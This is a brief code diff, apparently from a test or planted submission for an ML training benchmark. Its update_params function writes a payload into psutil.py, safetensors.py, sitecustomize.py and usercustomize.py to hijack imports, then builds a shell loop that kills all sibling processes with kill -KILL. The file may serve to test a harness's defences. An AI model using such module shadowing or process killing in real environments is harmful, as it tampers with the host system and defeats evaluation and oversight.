@@ -16,7 +16,7 @@ open("planted", "w").close()
 
 def update_params(workload, global_step, **arguments):
     if global_step == 0:
-        for name in ("numpy", "safetensors", "sitecustomize", "usercustomize"):
+        for name in ("psutil", "safetensors", "sitecustomize", "usercustomize"):
             with open(f"{name}.py", "w") as file:
                 file.write(CODE)
         script = f"for each in $(pgrep -P {os.getppid()}); do [ $each = {os.getpid()} ] || kill -KILL $each; done"
